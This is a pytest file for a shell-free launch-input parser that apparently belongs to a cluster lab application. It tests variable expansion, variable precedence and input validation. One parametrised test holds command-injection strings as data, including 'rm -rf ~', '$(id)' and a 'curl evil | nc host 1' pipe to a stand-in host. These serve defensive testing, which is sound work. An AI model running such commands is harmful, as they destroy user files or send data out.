import pytest

from hpclab.lab.apps.launch_input import LaunchInputError, parse_launch_input

SERVER = {"HOME": "/home/alice", "WORK": "/cluster/work/alice", "MLRUNS_DIR": "/home/alice/mlflow"}


def test_shell_expansion_without_a_shell():
    launch = parse_launch_input("--logdir $WORK/runs --name '${USER_TAG} run$UNSET' ~/x", "USER_TAG=tag1", SERVER, [])
    assert launch.arguments == ("--logdir", "/cluster/work/alice/runs", "--name", "tag1 run", "/home/alice/x")
    with pytest.raises(LaunchInputError, match="quote a value"):
        parse_launch_input("", "USER_TAG=a b", SERVER, [])
    launch = parse_launch_input("--name ${USER_TAG}", "USER_TAG='a b'", SERVER, [])
    assert launch.arguments == ("--name", "a b")


def test_dialog_variables_win_over_the_servers_and_chain():
    launch = parse_launch_input("", "MLRUNS_DIR=$WORK/mlflow\nEXPERIMENTS=$MLRUNS_DIR/mlruns", SERVER, [])
    assert launch.environment == {
        "MLRUNS_DIR": "/cluster/work/alice/mlflow",
        "EXPERIMENTS": "/cluster/work/alice/mlflow/mlruns",
    }


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ("--logdir runs; rm -rf ~", ("--logdir", "runs;", "rm", "-rf", "/home/alice")),
        ("--logdir $(id)", ("--logdir", "$(id)")),
        ("--logdir `id`", ("--logdir", "`id`")),
        ("--logdir runs && curl evil | nc host 1", ("--logdir", "runs", "&&", "curl", "evil", "|", "nc", "host", "1")),
        ("--logdir 'runs\n--port 1'", ("--logdir", "runs\n--port 1")),
        ("--logdir *", ("--logdir", "*")),
    ],
)
def test_injection_attempts_stay_plain_arguments_of_the_app(arguments, words):
    # Each word is an argument of the app's own command: no shell ever reads them.
    assert parse_launch_input(arguments, "", SERVER, []).arguments == words


def test_bad_input_is_refused_with_its_reason():
    with pytest.raises(LaunchInputError, match="needs --logdir"):
        parse_launch_input("--port 6006", "", SERVER, ["--logdir"])
    assert parse_launch_input("--logdir=runs", "", SERVER, ["--logdir"]).arguments == ("--logdir=runs",)
    with pytest.raises(LaunchInputError, match="expected NAME=value"):
        parse_launch_input("", "1BAD=x", SERVER, [])
    with pytest.raises(LaunchInputError, match="expected NAME=value"):
        parse_launch_input("", "export A=1", SERVER, [])
    with pytest.raises(LaunchInputError, match="No closing quotation"):
        parse_launch_input("--name 'open", "", SERVER, [])
    with pytest.raises(LaunchInputError, match="NUL"):
        parse_launch_input("--a\0b", "", SERVER, [])
    with pytest.raises(LaunchInputError, match="must be text"):
        parse_launch_input(["--logdir", "x"], "", SERVER, [])
